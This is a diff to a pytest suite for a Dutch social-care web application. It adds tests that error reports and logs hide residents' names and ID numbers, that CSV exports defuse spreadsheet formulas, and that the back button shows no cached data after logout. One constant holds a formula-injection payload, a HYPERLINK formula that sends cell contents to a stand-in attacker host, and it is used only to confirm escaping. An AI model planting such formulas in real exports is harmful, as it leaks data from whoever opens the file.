@@ -4,6 +4,7 @@ One class per failure. Every test first shows that the owner does get there, so 
 also when the scene is empty.
 """
 
+import csv
 import io
 import logging
 import re
@@ -12,6 +13,8 @@ from uuid import uuid4
 
 import pytest
 from django.apps import apps
+from django.db import connection
+from django.db.models import IntegerField
 from django.test import Client
 from django.urls import URLPattern, URLResolver, get_resolver
 from playwright.sync_api import expect
@@ -26,11 +29,13 @@ from keukentafel.inwoner.handelingen import (
 )
 from keukentafel.inwoner.models import Relatie
 from keukentafel.inwoner.regels.gegevens import Persoonsgegevens
-from keukentafel.kern import logs
+from keukentafel.kern import logs, werkblad
 from keukentafel.kern.actor import transactie
+from keukentafel.kern.web import middleware
 from keukentafel.plan.handelingen import dossier_openen_met_regie
 from keukentafel.plan.models import Regie
 from keukentafel.poort.matrix import Rol
+from keukentafel.privacy.handelingen.datalek import datalek_melden
 from keukentafel.toegang import handelingen as toegang
 from keukentafel.toegang.models import Melding
 from tests import bestanden as b
@@ -153,13 +158,18 @@ class TestUitgeklapteRelaties:
         assert open_ == []
 
 
-def deuren(patronen=None, voor="/"):
-    """Every path of ours with a key in it."""
+def alle_deuren(patronen=None, voor="/"):
+    """Every path of ours, as its pattern."""
     for deel in patronen if patronen is not None else get_resolver().url_patterns:
         if isinstance(deel, URLResolver):
-            yield from deuren(deel.url_patterns, voor + str(deel.pattern))
-        elif isinstance(deel, URLPattern) and "<uuid:" in f"{voor}{deel.pattern}":
+            yield from alle_deuren(deel.url_patterns, voor + str(deel.pattern))
+        elif isinstance(deel, URLPattern):
             yield f"{voor}{deel.pattern}"
+
+
+def deuren():
+    """Those with a key in it."""
+    return [patroon for patroon in alle_deuren() if "<uuid:" in patroon]
 
 
 def sleutels(patroon):
@@ -253,10 +263,35 @@ class TestInEenKeerVerdelen:
 class TestFoutrapport:
     """An error of ours in the middle of a resident's data: neither the page nor the log may repeat it."""
 
+    BSN = "999990019"
+
+    @staticmethod
+    def _gewoon(wie):
+        raise ValueError(f"kan niet: {wie}")
+
+    @staticmethod
+    def _veld(wie):
+        IntegerField(name="team").get_prep_value([wie])
+
+    @staticmethod
+    def _databank(wie):
+        with connection.cursor() as cursor:
+            cursor.execute("SELECT %s::text::date", [wie])
+
+    @staticmethod
+    def _oorzaak(wie):
+        try:
+            int(wie)
+        except ValueError as fout:
+            raise RuntimeError(f"dossier van {wie} niet te lezen") from fout
+
     @pytest.mark.parametrize("als_json", [True, False])
-    def test_een_500_noemt_niemand(self, buurt, monkeypatch, als_json):
+    @pytest.mark.parametrize("soort", ["gewoon", "veld", "databank", "oorzaak"])
+    def test_een_500_noemt_niemand(self, buurt, monkeypatch, als_json, soort):
+        wie = f"{buurt.fatma.roepnaam} {buurt.fatma.geslachtsnaam} {self.BSN}"
+
         def stuk(*_args, **_velden):
-            raise ValueError(f"kan niet: {buurt.fatma.roepnaam} {buurt.fatma.geslachtsnaam}")
+            getattr(self, f"_{soort}")(wie)
 
         monkeypatch.setattr("keukentafel.inwoner.web.persoon.render", stuk)
         regels = self._luister(monkeypatch, als_json)
@@ -265,10 +300,11 @@ class TestFoutrapport:
         antwoord = client.get(f"/inwoner/{buurt.fatma.pk}/?q=Fatma+{WOORD}")
         assert antwoord.status_code == 500
         assert "Internal Server Error" in regels.getvalue()
-        assert "ValueError" in regels.getvalue()
+        soorten = {"gewoon": "ValueError", "veld": "TypeError", "databank": "DatetimeFormat", "oorzaak": "RuntimeError"}
+        assert soorten[soort] in regels.getvalue()
         for tekst in (antwoord.text, regels.getvalue()):
-            assert "Fatma" not in tekst
-            assert WOORD not in tekst
+            for geheim in ("Fatma", WOORD, self.BSN):
+                assert geheim not in tekst
 
     def _luister(self, monkeypatch, als_json):
         regels, vorm = io.StringIO(), logs.instellingen(json=als_json)["formatters"]["regel"]
@@ -276,6 +312,42 @@ class TestFoutrapport:
         hand.setFormatter((logs.JsonRegel if als_json else logs.LeesbareRegel)(vorm["format"]))
         monkeypatch.setattr(logging.getLogger("django.request"), "handlers", [hand])
         return regels
+
+
+class TestFormules:
+    """Somebody types a formula in a text field; another opens the list in a spreadsheet, where it would run."""
+
+    FORMULE = '=HYPERLINK("https://kwaad.example/"&A1;"klik")'
+
+    def test_wat_iemand_typt_wordt_in_geen_bestand_een_formule(self, buurt):
+        """On the real door: a colleague writes it, the privacy officer opens the file."""
+        with transactie(p.SYSTEEM):
+            buurt.petra = p.maak_medewerker("Petra", Rol.PRIVACY_OFFICER, None)
+        doe(datalek_melden, buurt.wijk.frans, wat=self.FORMULE)
+        doe(datalek_melden, buurt.wijk.frans, wat=f"Brief kwijt, {self.FORMULE}")
+        tekst = buurt.als("petra").get("/privacy/datalekken/datalekken.csv").content.decode().removeprefix("\ufeff")
+        cellen = [cel for rij in csv.reader(io.StringIO(tekst, newline=""), delimiter=";") for cel in rij]
+        assert f"'{self.FORMULE}" in cellen
+        assert f"Brief kwijt, '{self.FORMULE}" in cellen
+        assert [cel for cel in cellen if cel.startswith(("=", "+", "-", "@"))] == []
+
+    def test_elk_bestand_voor_een_rekenblad_gaat_langs_dezelfde_schrijver(self, buurt, monkeypatch):
+        """Every door that ends in .csv, opened by somebody with every role: each of its cells passed the writer."""
+        with transactie(p.SYSTEEM):
+            buurt.alles = p.maak_medewerker("Alles", Rol.PRIVACY_OFFICER, None)
+            for rol in (Rol.CONTROLLER, Rol.FUNCTIONEEL_BEHEER, Rol.WIJKCOACH, Rol.WIJKTEAMMANAGER):
+                p.Rolvervulling.objects.create(medewerker=buurt.alles, rol=rol, team=buurt.wijk.oost, van=p.BEGIN)
+        doe(datalek_melden, buurt.wijk.frans, wat="Een brief kwijt")
+        merk = "langs-de-schrijver"
+        monkeypatch.setattr(werkblad, "_cel", lambda _waarde, _machine: merk)
+        paden = {pad for pad in (vul(patroon, {}, uuid4()) for patroon in alle_deuren()) if pad.endswith(".csv")}
+        paden = {pad.replace("/cijfers/x/", "/cijfers/caseload-naar-zwaarte/") for pad in paden}
+        client = buurt.als("alles")
+        open_ = {pad: client.get(pad) for pad in paden}
+        gezien = {pad: a.content.decode() for pad, a in open_.items() if a.status_code == 200}
+        assert len(gezien) >= 6, {pad: a.status_code for pad, a in open_.items()}
+        for pad, tekst in gezien.items():
+            assert set(re.split(r"[;\r\n]+", tekst.removeprefix("\ufeff").strip())) == {merk}, pad
 
 
 @pytest.mark.browser
@@ -287,13 +359,41 @@ class TestTerugknop:
     def bij_fatma(self, page, live_server, settings):
         settings.ALLOWED_HOSTS = ["*"]
         buurt = Buurt()
-        log_in_browser(page, live_server.url, buurt.wijk.samira)
-        page.goto(f"{live_server.url}/dossier/{buurt.dossier.pk}/tijdlijn/")
-        expect(page.locator("main")).to_contain_text(WOORD)
-        # By htmx too, whose history would keep the page in the browser.
-        page.goto(f"{live_server.url}/dossier/{buurt.dossier.pk}/")
-        expect(page.locator("body")).to_contain_text("Fatma")
+        self._kijk(page, live_server.url, buurt)
         return buurt
+
+    def _kijk(self, page, huis, buurt):
+        """Her timeline and her dossier: by a whole page, and by htmx, which has a history of its own."""
+        log_in_browser(page, huis, buurt.wijk.samira)
+        page.goto(f"{huis}/dossier/{buurt.dossier.pk}/tijdlijn/")
+        expect(page.locator("main")).to_contain_text(WOORD)
+        page.goto(f"{huis}/dossier/{buurt.dossier.pk}/")
+        expect(page.locator("body")).to_contain_text("Fatma")
+        plek = {"target": "#inhoud", "select": "#inhoud", "swap": "outerHTML"}
+        pad = f"/dossier/{buurt.dossier.pk}/documenten/"
+        page.evaluate("([pad, plek]) => { htmx.ajax('GET', pad, {...plek, push: pad}) }", [pad, plek])
+        page.wait_for_url(f"**{pad}")
+        expect(page.locator("#inhoud")).to_contain_text(f"{WOORD}.pdf")
+
+    @pytest.fixture
+    def gewone_page(self, browser_type, browser_type_launch_args):
+        """As people use it: Playwright's own browser never keeps a page that was left, an ordinary one does."""
+        browser = browser_type.launch(**browser_type_launch_args, ignore_default_args=["--disable-back-forward-cache"])
+        yield browser.new_page()
+        browser.close()
+
+    @pytest.mark.parametrize("bewaart", [False, True], ids=["no-store", "zonder"])
+    def test_een_gewone_browser_bewaart_geen_blad_en_zonder_onze_kop_wel(
+        self, gewone_page, live_server, settings, monkeypatch, bewaart
+    ):
+        """The second shows what the header is for, and that the first could fail."""
+        settings.ALLOWED_HOSTS = ["*"]
+        if bewaart:
+            monkeypatch.setitem(middleware.KOPPEN, "Cache-Control", "private, max-age=600")
+        self._kijk(gewone_page, live_server.url, Buurt())
+        self._uit(gewone_page)
+        gelezen = "".join(self._terug(gewone_page, 5))
+        assert (WOORD in gelezen) is bewaart
 
     def _uit(self, page):
         page.locator("form[action='/uitloggen/'] button").evaluate("(knop) => knop.form.submit()")
@@ -301,13 +401,14 @@ class TestTerugknop:
 
     def _terug(self, page, keren):
         for _ in range(keren):
-            page.go_back()
+            page.evaluate("history.back()")  # go_back waits for a load, which a page that was kept does not do again
+            page.wait_for_timeout(500)
             page.wait_for_load_state("networkidle")
             yield page.content()
 
     def test_terug_en_vooruit_tonen_niets(self, page, bij_fatma):
         self._uit(page)
-        for inhoud in self._terug(page, 3):
+        for inhoud in self._terug(page, 5):
             assert "Fatma" not in inhoud
             assert WOORD not in inhoud
         page.go_forward()
@@ -324,7 +425,7 @@ class TestTerugknop:
     def test_een_collega_na_haar_op_dezelfde_computer_ziet_het_ook_niet(self, page, live_server, bij_fatma):
         self._uit(page)
         log_in_browser(page, live_server.url, bij_fatma.wijk.zoe)
-        for inhoud in self._terug(page, 4):
+        for inhoud in self._terug(page, 7):
             assert WOORD not in inhoud
         page.goto(f"{live_server.url}/dossier/{bij_fatma.dossier.pk}/")
         assert "Hier is niets te vinden" in page.content()
